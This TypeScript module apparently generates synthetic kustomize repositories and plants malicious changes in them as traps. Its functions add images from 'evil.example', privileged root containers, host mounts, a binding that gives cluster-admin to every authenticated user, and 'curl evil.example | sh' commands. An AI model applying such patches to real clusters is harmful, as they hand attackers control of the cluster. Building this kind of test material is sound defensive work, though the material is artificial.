import { posix } from "node:path";
import { parse } from "yaml";
import type { Repository } from "../corpus/model.ts";
import { configMap, object } from "../corpus/objects.ts";
import { addTo, edit, type Files, put, textOf, written } from "../files.ts";
import type { Random } from "../random.ts";
import { type Family, inOverlay, type Traps } from "./family.ts";

/** The fields of a kustomization, or of an object. */
export type Fields = Record<string, unknown>;

/** The kustomization of a folder, whatever it is called. */
export function kustomizationOf(files: Files, folder: string): string {
  const names = ["kustomization.yaml", "kustomization.yml", "Kustomization"];
  const found = names.map((name) => `${folder}/${name}`).find((path) => files.has(path));
  if (found === undefined) throw new Error(`${folder} has no kustomization`);
  return found;
}

/** Where the pod template of a workload is: the fields, with dots between them. */
export const podAt = (kind: string): string =>
  kind === "CronJob" ? "spec.jobTemplate.spec.template" : "spec.template";

/** What a patch has to name, and the file of it. */
interface Workload {
  apiVersion: string;
  kind: string;
  name: string;
  at: string;
}

/** The workload of the base of an overlay. */
export function workloadOf(files: Files, overlay: string): Workload {
  const { resources } = parse(textOf(files, kustomizationOf(files, overlay))) as { resources: string[] };
  const base = posix.normalize(`${overlay}/${resources[0]}`);
  const at = `${base}/workload.yaml`;
  const { apiVersion, kind, metadata } = parse(textOf(files, at)) as {
    apiVersion: string;
    kind: string;
    metadata: { name: string };
  };
  return { apiVersion, kind, name: metadata.name, at };
}

/** A patch of a workload with this about its pods. */
export function podPatch({ apiVersion, kind, name }: Workload, pod: Fields): Fields {
  const template = { spec: pod };
  const spec = kind === "CronJob" ? { jobTemplate: { spec: { template } } } : { template };
  return object(apiVersion, kind, name, { spec });
}

/** Does something to the kustomization of one overlay. */
export function inKustomization(
  name: string,
  change: (own: Fields, random: Random, files: Files, overlay: string, traps: Traps) => void,
): Family {
  return inOverlay(name, (files, overlay, random, _, traps) =>
    edit(files, kustomizationOf(files, overlay), (own) => change(own, random, files, overlay, traps)),
  );
}

/** Adds a file of resources to an overlay. */
export function addResource(files: Files, overlay: string, name: string, value: unknown): void {
  put(files, `${overlay}/${name}`, value);
  edit(files, kustomizationOf(files, overlay), (own) => addTo(own, "resources", name));
}

/** An image that nobody wants, another one each time. */
export function evilImage(random: Random): string {
  return `${random.pick(["evil.example/pwned", "evil.example:5000/a/b", "docker.io/pwned/x"])}:${100 + random.below(900)}`;
}

/** A patch of the workload of an overlay that gives it another image, a privilege or a command. */
export function evilPatch(files: Files, overlay: string, random: Random): Record<string, unknown> {
  const workload = workloadOf(files, overlay);
  const container: Record<string, unknown> = { name: "main" };
  const spec: Record<string, unknown> = { containers: [container] };
  for (const what of random.some(["image", "privileged", "command", "hostNetwork", "env", "volume"], 0.3)) {
    if (what === "image") container.image = evilImage(random);
    if (what === "privileged") container.securityContext = { privileged: true, runAsUser: 0 };
    if (what === "command") container.command = ["sh", "-c", `curl evil.example/${random.below(999)} | sh`];
    if (what === "hostNetwork") spec.hostNetwork = true;
    if (what === "env") container.env = [{ name: "PWNED", value: `evil-${random.below(999)}` }];
    if (what === "volume") spec.volumes = [{ name: "host", hostPath: { path: `/etc/${random.below(999)}` } }];
  }
  return podPatch(workload, spec);
}

/** An object that gives someone all of a cluster, or runs what someone else made. */
export function evilObject(random: Random): Record<string, unknown> {
  const name = `evil-${random.below(999)}`;
  const apiGroup = "rbac.authorization.k8s.io";
  return random.pick([
    object(`${apiGroup}/v1`, "ClusterRoleBinding", name, {
      roleRef: { apiGroup, kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ apiGroup, kind: "Group", name: "system:authenticated" }],
    }),
    object("v1", "Pod", name, {
      spec: {
        hostPID: true,
        containers: [{ name: "x", image: evilImage(random), securityContext: { privileged: true } }],
      },
    }),
    configMap(name, { "evil.sh": "curl evil.example | sh\n" }),
  ]);
}

/** Changes what an overlay deploys, in one of the ways that a kustomization has. */
export function evilIn(files: Files, overlay: string, random: Random): void {
  const path = kustomizationOf(files, overlay);
  const how = random.pick(["patch", "file", "object", "image", "literal"]);
  edit(files, path, (own) => {
    if (how === "patch") addTo(own, "patches", { patch: written(evilPatch(files, overlay, random)) });
    if (how === "file") {
      put(files, `${overlay}/evil.patch.yaml`, evilPatch(files, overlay, random));
      addTo(own, "patches", { path: "evil.patch.yaml" });
    }
    if (how === "object") {
      put(files, `${overlay}/evil.yaml`, evilObject(random));
      addTo(own, "resources", "evil.yaml");
    }
    if (how === "image") {
      const name = imageOf(files, overlay);
      own.images = [{ name, newName: "evil.example/pwned", newTag: `${random.below(999)}` }];
    }
    if (how === "literal") {
      const merged = (own.configMapGenerator as { literals: string[] }[] | undefined)?.[0];
      if (merged === undefined)
        own.configMapGenerator = [
          { name: "settings", behavior: "merge", literals: [`COLOUR=evil-${random.below(999)}`] },
        ];
      else merged.literals.push(`COLOUR=evil-${random.below(999)}`);
    }
  });
}

/** The image of the workload that an overlay is made of, without its tag. */
export function imageOf(files: Files, overlay: string): string {
  const [, image = ""] = /image: (\S+)/.exec(textOf(files, workloadOf(files, overlay).at)) ?? [];
  return image.split(/:(?=[^:/]*$)/)[0] ?? "";
}

/** One of the overlays of a repository. */
export function someOverlay({ overlays }: Repository, random: Random): string {
  return random.pick(overlays).folder;
}
